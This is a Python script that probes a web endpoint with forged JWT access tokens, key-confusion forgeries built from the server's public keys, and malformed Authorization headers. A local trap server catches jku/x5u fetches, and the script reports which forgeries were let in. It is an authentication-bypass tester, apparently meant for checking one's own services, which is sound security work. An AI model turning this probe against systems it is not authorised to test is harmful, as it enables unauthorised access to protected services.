"""Tries to get in with access tokens that nobody issued, while a genuine one goes in before and after.

usage: jwt_attacks.py URL TOKEN [--jwks URL] [-v]

URL is an address that needs a token and answers 2xx to TOKEN, a genuine one. With --jwks the server's public keys are
fetched and turned against it (key confusion, encryption). A forgery counts as let in when the answer is 2xx, and as a
fault when it is 5xx. An address of ours is named in some headers (jku, x5u); fetching it is a fault too.

Ends with one line of counts; the exit code is 1 unless every forgery was refused. Needs: cryptography.
"""

import argparse
import http.client
import http.server
import json
import sys
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

from cryptography.hazmat.primitives.asymmetric import rsa
from jwt_forgeries import make_all
from jwt_tools import Genuine, decode

TIMEOUT_S = 20.0
# The server hung up, as some do on headers that are too large.
HUNG_UP = 0


def main() -> int:
    """Run from the command line."""
    asked = _parse_arguments()
    with setting_trap() as (trap, fetched):
        jwks = fetch_jwks(asked.jwks) if asked.jwks else {"keys": []}
        genuine = Genuine(asked.token, tuple(map(read_key, jwks["keys"])), jwks, trap)
        check_controls(asked.url, genuine.token)
        answers = {name: call(asked.url, [f"Bearer {token}"]) for name, token in make_all(genuine)}
        answers |= try_other_ways(asked.url, genuine.token)
        check_controls(asked.url, genuine.token)
    return report(answers, fetched, asked.v)


def call(url: str, authorizations: list[str], query: str = "") -> int:
    """The status of a GET with these Authorization headers; HUNG_UP when no answer came."""
    parts = urlsplit(url)
    kind = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
    connection = kind(parts.netloc, timeout=TIMEOUT_S)
    target = parts.path + (f"?{query or parts.query}" if query or parts.query else "")
    try:
        connection.putrequest("GET", target)
        for value in authorizations:
            connection.putheader("Authorization", value.encode("latin-1", "replace"))
        connection.endheaders()
        return connection.getresponse().status
    except (ConnectionError, http.client.HTTPException):
        return HUNG_UP
    finally:
        connection.close()


def try_other_ways(url: str, token: str) -> dict[str, int]:
    """The genuine token where none belongs: nothing but one Bearer header opens the door."""
    return {
        "way: access_token in the address": call(url, [], f"access_token={token}"),
        "way: Basic instead of Bearer": call(url, [f"Basic {token}"]),
        "way: no scheme": call(url, [token]),
        "way: scheme and token run together": call(url, [f"Bearer{token}"]),
        "way: two headers": call(url, [f"Bearer {token}", f"Bearer {token}"]),
        "way: an empty header before": call(url, ["", f"Bearer {token}"]),
        "way: nothing after the scheme": call(url, ["Bearer "]),
    }


def check_controls(url: str, token: str) -> None:
    """What makes the rest worth something: the genuine token is let in, and nobody is without one."""
    with_token, without = call(url, [f"Bearer {token}"]), call(url, [])
    if not (200 <= with_token < 300 and without == 401):
        sys.exit(
            f"{url} must answer 2xx with the token (found {with_token}) and 401 without (found {without})."
        )


def fetch_jwks(url: str) -> dict[str, list[dict[str, str]]]:
    """The public keys of the server."""
    with urllib.request.urlopen(url, timeout=TIMEOUT_S) as answer:
        return json.load(answer)


def read_key(jwk: dict[str, str]) -> rsa.RSAPublicKey:
    """An RSA key out of its JWK."""
    n, e = (int.from_bytes(decode(jwk[name]), "big") for name in ("n", "e"))
    return rsa.RSAPublicNumbers(e, n).public_key()


@contextmanager
def setting_trap() -> Iterator[tuple[str, list[str]]]:
    """An address on the loopback, and the list of what was fetched from it."""
    fetched: list[str] = []

    class Trap(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            fetched.append(self.path)
            self.send_error(404)

        def log_message(self, format: str, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", fetched
        server.shutdown()


def report(answers: dict[str, int], fetched: list[str], verbose: bool) -> int:
    """Say what was found; the exit code."""
    let_in = [name for name, status in answers.items() if 200 <= status < 300]
    broken = [name for name, status in answers.items() if status >= 500]
    for name, status in answers.items():
        if verbose or name in let_in or name in broken:
            print(f"{status or '---'} {name}")
    for path in fetched:
        print(f"FETCHED {path} from an address that a token named")
    print(
        f"{len(answers)} forgeries: {len(let_in)} let in, {len(broken)} answered 5xx,"
        f" {len(fetched)} addresses of ours fetched"
    )
    return 1 if let_in or broken or fetched else 0


def _parse_arguments() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("url")
    parser.add_argument("token")
    parser.add_argument("--jwks", metavar="URL")
    parser.add_argument("-v", action="store_true", help="print every answer")
    return parser.parse_args()


if __name__ == "__main__":
    sys.exit(main())
